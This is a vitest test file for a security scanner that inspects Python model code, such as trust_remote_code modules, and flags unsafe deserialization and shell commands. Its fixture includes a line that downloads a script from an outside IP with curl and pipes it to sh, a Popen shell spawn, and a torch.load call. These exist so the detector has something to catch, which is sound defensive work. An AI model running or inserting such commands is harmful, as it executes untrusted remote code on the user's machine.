import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { pythonSourceScanner } from '../../../src/scan/formats/python-source.js';
import { source, testContext } from '../../builders/keras.js';

const MODELING = [
  'import os as o',
  'from subprocess import Popen as P',
  'import torch',
  'class EvilModel:',
  '    def __init__(self):',
  "        self.w = torch.load('w.bin')",
  "o.system('curl -s http://198.51.100.7/x | sh')",
  "P(['sh'])",
].join('\n');

describe('python source scanner', () => {
  it('claims .py files by name, not binary content', () => {
    const b = new TextEncoder().encode(MODELING);
    expect(pythonSourceScanner.sniff({ head: b, size: b.length, name: 'modeling_x.py' })).toBe(true);
    expect(pythonSourceScanner.sniff({ head: new Uint8Array([0x70, 0, 1]), size: 3, name: 'x.py' })).toBe(false);
    expect(pythonSourceScanner.sniff({ head: b, size: b.length, name: 'modeling_x.txt' })).toBe(false);
  });

  it('trust_remote_code module: aliased os.system / Popen at import and torch.load in __init__ are high with lines', async () => {
    const o = await pythonSourceScanner.scan(source(MODELING), testContext('m/modeling_x.py'));
    expect(o.findings.map((f) => [f.ruleId, f.severity, f.line])).toEqual([
      ['python/unsafe-deserialization', 'high', 6],
      ['python/shell-command', 'high', 7],
      ['python/shell-command', 'high', 8],
    ]);
    expect(o.metadata).toMatchObject({ imports: ['os', 'subprocess', 'torch'] });
  });

  it('a huge Python file is checked up to the cap and reported as partial', async () => {
    const big = `import os\nos.system('x')\n${'y = 1\n'.repeat(1_000_000)}`;
    const o = await pythonSourceScanner.scan(source(big), testContext('m/big.py'));
    expect(o.findings.map((f) => f.line)).toEqual([2]);
    expect(o.error?.code).toBe('limit_exceeded');
  });

  it('property: random and mutated sources never throw', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          fc.string({ maxLength: 400 }),
          fc
            .array(fc.tuple(fc.nat(MODELING.length - 1), fc.string({ maxLength: 3 })), { maxLength: 5 })
            .map((edits) => {
              let s = MODELING;
              for (const [at, v] of edits) s = s.slice(0, at) + v + s.slice(at + 1);
              return s;
            }),
        ),
        async (text) => {
          const o = await pythonSourceScanner.scan(source(text), testContext('m/x.py'));
          expect(Array.isArray(o.findings)).toBe(true);
        },
      ),
      { numRuns: 150 },
    );
  });
});
